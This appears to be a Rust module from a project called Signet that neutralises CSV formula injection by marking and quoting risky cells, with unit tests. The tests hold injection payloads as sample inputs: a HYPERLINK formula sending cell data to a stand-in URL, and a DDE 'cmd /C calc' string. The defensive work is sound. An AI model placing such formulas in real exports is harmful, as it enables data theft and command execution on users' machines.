//! Cells a spreadsheet would run (CSV injection, OWASP's guidance): Excel, LibreOffice and
//! Google Sheets read a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return as
//! a formula when they open a CSV file. Every CSV Signet writes puts a `'` (a spreadsheet's
//! "this is text" mark) before such a cell and quotes it; a CSV header read back understands
//! the mark; and the names that become header cells (role names, field labels) may not begin
//! with such a character (docs/security.md, "CSV output").

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// What a spreadsheet takes as "the rest is text", and what Signet writes before a cell that
/// begins with one of [`FORMULA_STARTS`].
pub const TEXT_MARK: char = '\'';

/// Whether a spreadsheet would read `text`, as a cell, as a formula.
pub fn begins_like_formula(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS)
}

/// One RFC 4180 cell that a spreadsheet shows as the text it is: a cell that would be a formula
/// gets [`TEXT_MARK`] before it and is quoted; a cell holding a separator (`,`, or `;` where a
/// spreadsheet's locale splits on it), a quote, a tab or a line break is quoted, so that no part
/// of it starts a cell of its own.
pub fn csv_cell(value: &str) -> String {
    let marked = begins_like_formula(value);
    let value: Cow<str> = if marked {
        format!("{TEXT_MARK}{value}").into()
    } else {
        value.into()
    };
    if marked || value.contains([',', ';', '"', '\t', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.into_owned()
    }
}

/// A header cell as [`csv_cell`] wrote it, read back: `'=x` is `=x` (a cell that begins with
/// the mark but would not be a formula without it is left as it is).
pub fn unmarked(cell: &str) -> &str {
    match cell.strip_prefix(TEXT_MARK) {
        Some(rest) if begins_like_formula(rest) => rest,
        _ => cell,
    }
}

/// A name found in a PDF someone else made (a form field's name) made fit to be a header cell:
/// without the formula starts, text marks and white space it begins with. It may be left empty.
pub fn without_formula_start(name: &str) -> &str {
    name.trim_start_matches(|c: char| {
        FORMULA_STARTS.contains(&c) || c == TEXT_MARK || c.is_whitespace()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_would_be_a_formula_is_marked_and_quoted() {
        for (value, written) in [
            (
                r#"=HYPERLINK("http://x/"&A2)"#,
                r#""'=HYPERLINK(""http://x/""&A2)""#,
            ),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
            ),
            ("+1", "\"'+1\""),
            ("-2+3", "\"'-2+3\""),
            ("\tx", "\"'\tx\""),
            ("\rx", "\"'\rx\""),
            ("=", "\"'=\""),
        ] {
            assert_eq!(csv_cell(value), written, "{value:?}");
        }
    }

    #[test]
    fn other_cells_are_as_rfc_4180_writes_them() {
        for (value, written) in [
            ("Tenant.name", "Tenant.name"),
            ("Miete_2-Straße", "Miete_2-Straße"),
            ("a=b", "a=b"),
            ("O'Brien", "O'Brien"),
            ("'quoted", "'quoted"),
            ("Smith, Ann", "\"Smith, Ann\""),
            ("x;=cmd", "\"x;=cmd\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\nlines", "\"two\nlines\""),
            ("a\tb", "\"a\tb\""),
            ("", ""),
        ] {
            assert_eq!(csv_cell(value), written, "{value:?}");
        }
    }

    #[test]
    fn a_marked_header_cell_reads_back_as_its_value() {
        for value in [
            "=HYPERLINK(A1).name",
            "@x",
            "-1",
            "+1",
            "\tx",
            "Tenant.email",
        ] {
            let written = csv_cell(value);
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(written.as_bytes());
            let record = reader.records().next().unwrap().unwrap();
            assert_eq!(unmarked(&record[0]), value);
        }
        assert_eq!(unmarked("'Tis"), "'Tis");
        assert_eq!(unmarked("'"), "'");
        assert_eq!(unmarked("''=x"), "''=x");
    }

    #[test]
    fn a_name_loses_the_formula_starts_it_begins_with() {
        assert_eq!(without_formula_start("-Total"), "Total");
        assert_eq!(without_formula_start(" =+@'- Total-2"), "Total-2");
        assert_eq!(without_formula_start("Total"), "Total");
        assert_eq!(without_formula_start("--"), "");
    }
}
